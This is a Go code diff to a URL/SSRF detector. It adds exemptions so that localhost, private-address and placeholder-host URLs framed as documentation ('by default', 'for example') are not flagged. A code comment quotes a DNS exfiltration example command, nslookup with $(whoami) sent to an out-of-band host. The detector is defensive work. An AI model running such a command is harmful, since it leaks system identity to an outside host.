@@ -88,6 +88,11 @@ func (d urlDetector) detect(_ context.Context, in *input, addHit func(hit)) erro
 	}
 	memo := map[string]verdict{}
 	const maxMemo = 1024
+	// Each documentation check reads at most 96 bytes around its URL; a
+	// text made of local URLs gets the first maxDocChecks of them checked,
+	// the rest reported.
+	const maxDocChecks = 256
+	docChecks := 0
 	// Names under the shipped list's entries are also read outside URLs
 	// (DNS exfiltration writes "nslookup $(whoami).x.oast.pro"), in the
 	// text between the URLs.
@@ -121,7 +126,12 @@ func (d urlDetector) detect(_ context.Context, in *input, addHit func(hit)) erro
 		if !v.ok {
 			return
 		}
-		if v.ssrf != "" {
+		documented := false
+		if v.ssrf != "" && documentedKinds[v.ssrf] && !v.obfuscated && !u.userinfoHost && docChecks < maxDocChecks {
+			docChecks++
+			documented = documentedURL(text, u, v.ssrf)
+		}
+		if v.ssrf != "" && !documented {
 			add(SSRF, v.ssrf, u.start, u.end)
 			if v.ssrf != "internal_hostname" && (v.obfuscated || u.userinfoHost) {
 				add(SSRF, "obfuscated_address", u.start, u.end)
@@ -138,6 +148,66 @@ func (d urlDetector) detect(_ context.Context, in *input, addHit func(hit)) erro
 		}
 	})
 	return nil
+}
+
+// documentedKinds are the ssrf kinds that documentation writes every
+// day: a local development server, a router's page, a placeholder host.
+// Such a URL in a documentation frame is no signal (documentedURL); a
+// metadata, link-local or rebinding host, or any spelling meant to pass
+// a filter (obfuscated_address), always is.
+var documentedKinds = map[string]bool{
+	string(catLoopback): true, string(catPrivate): true, string(catUnspecified): true,
+	string(catReserved): true, "internal_hostname": true,
+}
+
+// placeholderHosts are the single-label names documentation writes for
+// "your host here" (http://server/path, http://host:port/).
+var placeholderHosts = map[string]bool{
+	"host": true, "hostname": true, "server": true, "servername": true, "yourserver": true,
+	"your-server": true, "myserver": true, "my-server": true, "yourhost": true, "your-host": true,
+	"myhost": true, "my-host": true, "domain": true, "yourdomain": true, "your-domain": true,
+	"foo": true, "bar": true, "baz": true, "ip": true, "address": true, "addr": true,
+}
+
+// docBefore and docAfter are what documentation writes around a URL it
+// describes rather than asks to fetch: an example, a default, where a
+// local server listens.
+var (
+	docBefore = []string{"e.g", "eg.", "for example", "for instance", "such as", "default", "example",
+		"i.e", "usually", "typically", "listens on", "listening on", "running on", "runs on", "served at",
+		"served on", "available at", "reachable at", "placeholder", "like "}
+	docAfter = []string{"by default", "(default", "in your browser", "in a browser", "is the default"}
+)
+
+// documentedURL reports whether the URL u, whose ssrf kind is kind, is
+// written as documentation writes it (issue 27: benign READMEs and tool
+// definitions describe "http://localhost:11434 by default"): a
+// placeholder single-label host, or an example or default phrase before
+// it on its line (within 64 bytes) or after it (within 32).
+func documentedURL(text string, u foundURL, kind string) bool {
+	if kind == "internal_hostname" && placeholderHosts[strings.ToLower(u.host)] {
+		return true
+	}
+	from := max(0, u.start-64)
+	if k := strings.LastIndexAny(text[from:u.start], "\n\r"); k >= 0 {
+		from += k + 1
+	}
+	to := min(len(text), u.end+32)
+	if k := strings.IndexAny(text[u.end:to], "\n\r"); k >= 0 {
+		to = u.end + k
+	}
+	before, after := strings.ToLower(text[from:u.start]), strings.ToLower(text[u.end:to])
+	for _, p := range docBefore {
+		if strings.Contains(before, p) {
+			return true
+		}
+	}
+	for _, p := range docAfter {
+		if strings.Contains(after, p) {
+			return true
+		}
+	}
+	return false
 }
 
 // actionWords are the words that, shortly before a bare address on its
